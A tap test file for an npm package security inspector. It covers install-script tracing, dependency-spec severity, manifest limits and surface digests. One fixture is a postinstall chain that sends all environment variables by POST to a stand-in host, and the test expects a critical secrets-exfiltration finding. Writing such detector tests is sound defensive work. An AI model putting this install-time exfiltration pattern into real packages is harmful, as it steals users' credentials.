import t from 'tap'
import { LIMITS } from '../../src/analysis/limits.ts'
import type { ArchiveReading } from '../../src/archive/reading.ts'
import { claimFacts } from '../../src/inspection/claims.ts'
import { inspect } from '../../src/inspection/inspect.ts'
import { inspectorRevision } from '../../src/inspection/revision.ts'
import { readAsOf } from '../../src/model/artifact.ts'
import { sha256 } from '../../src/model/digest.ts'
import type { ContentFacts } from '../../src/model/fact.ts'
import { packedReading } from './python-reading.ts'
import { sampleArtifact } from './sample-artifact.ts'

function inspected(reading: ArchiveReading): Promise<ContentFacts> {
  return inspect(reading, { digest: sha256('x'), readAs: readAsOf({ kind: reading.kind, filename: 'x.tar.gz' }) })
}

async function npm(manifest: object, files: Readonly<Record<string, string>> = {}): Promise<ContentFacts> {
  return inspected(
    await packedReading('npm-tarball', { 'package.json': JSON.stringify(manifest, undefined, 2), ...files }),
  )
}

const checksOf = (facts: ContentFacts): string[] => facts.findings.map(({ check }) => check)

t.test('the chain from the script to the line that sends', async (t) => {
  const facts = await npm(
    { name: 'sample', scripts: { postinstall: 'npm run -s setup', setup: 'node scripts/setup' } },
    {
      'scripts/setup.js': `const { collect } = require('./lib')\nfetch('https://c.invalid/', { method: 'POST', body: collect() })`,
      'scripts/lib/index.js': `exports.collect = () => JSON.stringify(process.env)`,
    },
  )
  const finding = facts.findings.find(({ check }) => check === 'secrets-exfiltration')
  t.match(finding, { severity: 'critical', confidence: 'high' })
  t.same(
    finding?.evidence.map(({ role, path, line }) => `${role} ${path}:${line}`),
    [
      'trigger package.json:4',
      'step package.json:4',
      'step package.json:5',
      'source scripts/lib/index.js:1',
      'sink scripts/setup.js:2',
    ],
  )
  t.same(facts.installScripts, { postinstall: 'npm run -s setup' })
  t.ok(facts.surfaceCapabilities.includes('network'))
  t.equal(facts.inspector, inspectorRevision)
})

t.test('what runs at install and cannot be read is a finding', async (t) => {
  const scripts = { install: 'node a.js' }
  t.match(checksOf(await npm({ scripts }, { 'a.js': 'let let = (' })), ['check-failed'])
  t.match(checksOf(await npm({ scripts }, { 'a.js': '('.repeat(100_000) })), ['check-failed'])
  const reading = await packedReading('npm-tarball', { 'package.json': JSON.stringify({ scripts }) })
  const large = { path: 'a.js', archivePath: 'a.js', sizeBytes: 9e9, mode: 0, notKept: 'over the limit' }
  t.match(checksOf(await inspected({ ...reading, entries: [...reading.entries, large] })), ['check-failed'])
  t.same(
    checksOf(await npm({ main: 'a.js' }, { 'a.js': 'let let = (' })),
    ['not-examined'],
    'an import is told by another check',
  )
})

t.test('code for node of which a part is not known is read as far as it goes', async (t) => {
  for (const started of [
    "execSync('node -p ' + name)",
    'execSync(`node -p "require(\'./${name}\').version"`)',
    "execFileSync('node', ['-e', 'const x = ' + name + '; y('])",
    "execFileSync('node', ['-p', '{ a: 1 }.a'])",
  ]) {
    const text = `const { execSync, execFileSync } = require('child_process')\nconst name = process.argv[2]\n${started}\n`
    const facts = await npm({ scripts: { install: 'node a.js' } }, { 'a.js': text })
    t.notOk(checksOf(facts).includes('check-failed'), started)
  }
  const scripts = { install: 'node -p "require(\'./$npm_config_x\').a($1"' }
  t.notOk(checksOf(await npm({ scripts })).includes('check-failed'), scripts.install)
})

const padded = (text: string, bytes: number): string => text + ' '.repeat(bytes - text.length)

t.test('what npm obeys is read up to a limit, and told beyond it', async (t) => {
  const manifest = '{"name":"sample","version":"1.0.0"}'
  for (const [path, text] of [
    ['package.json', manifest],
    ['binding.gyp', '{}'],
    ['node_modules/inner/package.json', '{"name":"inner"}'],
  ] as const) {
    const at = async (bytes: number): Promise<readonly string[]> =>
      checksOf(
        await inspected(
          await packedReading('npm-tarball', {
            'package.json': manifest,
            'a.c': 'int a;',
            [path]: padded(text, bytes),
          }),
        ),
      ).filter((check) => check === 'unreadable-manifest')
    t.same(await at(LIMITS.manifestBytes), [], path)
    t.same(await at(LIMITS.manifestBytes + 1), ['unreadable-manifest'], path)
  }
})

t.test('manifests that are none, or are strange, are read as far as they go', async (t) => {
  for (const text of [
    '',
    '{',
    '[]',
    'null',
    '"x"',
    '{"scripts":[1],"dependencies":"x","bin":7,"exports":{"a":[null,7]},"main":{}}',
    '['.repeat(100_000),
  ]) {
    const facts = await inspected(await packedReading('npm-tarball', { 'package.json': text, 'index.js': '' }))
    t.same(facts.installScripts, {}, text.slice(0, 30))
    t.notOk(checksOf(facts).includes('check-failed'), text.slice(0, 30))
  }
  const inherited = '{"scripts":{"__proto__":"x","constructor":"y"},"dependencies":{"__proto__":"git://c.invalid/x"}}'
  t.ok(
    checksOf(await inspected(await packedReading('npm-tarball', { 'package.json': inherited }))).includes(
      'direct-dependencies',
    ),
  )
})

t.test('dependencies of every group, direct ones marked', async (t) => {
  const facts = await npm({
    dependencies: { a: '^1.0.0', b: 'npm:c@1', d: 'github:e/f', g: 'h/i#main', j: 'https://c.invalid/j.tgz' },
    optionalDependencies: { k: 'git+ssh://git@c.invalid/k.git' },
    peerDependencies: { l: '1 || 2' },
    bundledDependencies: ['m'],
    devDependencies: { n: 'git://c.invalid/n' },
  })
  t.same(
    facts.dependencies.map(({ name, group, direct }) => `${group} ${name}${direct ? ' direct' : ''}`),
    [
      'dependencies a',
      'dependencies b',
      'dependencies d direct',
      'dependencies g direct',
      'dependencies j direct',
      'optionalDependencies k direct',
      'peerDependencies l',
      'bundledDependencies m',
    ],
  )
})

t.test(
  'a spec that is neither a range, a tag nor a name at the registry is fetched around it by some client',
  async (t) => {
    const table: readonly (readonly [severity: string, specs: readonly string[]])[] = [
      ['none', ['^1.0.0', '>=1 <2 || 3.x - 4', 'latest', '', '*', 'npm:c@1', 'npm:@a/c@^1', 'workspace:*', 'catalog:']],
      ['medium', ['file:x', './x', '.\\x', 'C:\\x', 'a/b/c', 'x.tgz', 'link:x']],
      [
        'high',
        [
          'a/b',
          'a/b#c',
          'gh:a/b',
          'jsr:@a/b@1',
          'exec:./x.js',
          'patch:c@1#./p',
          'ftp://c.invalid/x',
          'git@c.invalid:a/b',
        ],
      ],
      ['critical', ['http://c.invalid/x.tgz', 'HTTP://c.invalid/x.tgz']],
    ]
    for (const [severity, specs] of table)
      for (const spec of specs) {
        const { findings } = await npm({ dependencies: { x: spec } })
        const found = findings.find(({ check }) => check === 'direct-dependencies')
        t.equal(found?.severity ?? 'none', severity, spec)
      }
  },
)

t.test('the surface digest follows what runs by itself, and nothing else', async (t) => {
  const base = { 'a.js': '1', 'b.js': '2', 'README.md': 'x' }
  const manifest = { version: '1.0.0', main: 'b.js', scripts: { install: 'node a.js', test: 'x' } }
  const digest = async (change: object, files: Readonly<Record<string, string>> = {}): Promise<string> =>
    (await npm({ ...manifest, ...change }, { ...base, ...files })).surfaceDigest
  const before = await digest({})
  t.equal(await digest({ version: '1.0.1' }, { 'README.md': 'y', 'unused.js': '3' }), before)
  t.not(await digest({}, { 'a.js': '4' }), before)
  t.not(await digest({}, { 'b.js': '4' }), before)
  t.not(await digest({ scripts: { install: 'node  a.js' } }), before)
})

t.test('an implicit build runs where npm would run it', async (t) => {
  const gyp = { 'binding.gyp': '{}', 'a.cc': '' }
  t.same((await npm({}, gyp)).installScripts, { install: 'node-gyp rebuild' })
  t.same((await npm({ gypfile: false }, gyp)).installScripts, {})
  t.same((await npm({ scripts: { install: '' } }, gyp)).installScripts, { install: 'node-gyp rebuild' })
  t.same((await npm({ scripts: { preinstall: '' } }, gyp)).installScripts, { install: 'node-gyp rebuild' })
  t.same((await npm({ scripts: { preinstall: 'true' } }, gyp)).installScripts, { preinstall: 'true' })
  t.same((await npm({}, { 'src/binding.gyp': '{}' })).installScripts, {})
})

t.test('findings are bounded, and say so', async (t) => {
  const dependencies = Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`d${index}`, 'git://c.invalid/x']))
  const facts = await npm({ dependencies })
  t.ok(facts.findings.length <= 60)
  t.match(facts.findings.at(-1)?.message, /found 300 places; 50 are listed/)
})

t.test('names that objects inherit are names like any other', async (t) => {
  const reading = await packedReading('npm-tarball', { 'package.json': '{"dependencies":{"toString":"1"}}' })
  const manifest = { scripts: {}, dependencies: { constructor: '1' } }
  const facts = await inspected(reading)
  const { findings } = claimFacts(facts, sampleArtifact('npm-tarball', { manifest }), 'verified')
  t.same(
    findings.map(({ check }) => check),
    ['manifest-mismatch', 'manifest-mismatch'],
  )
})
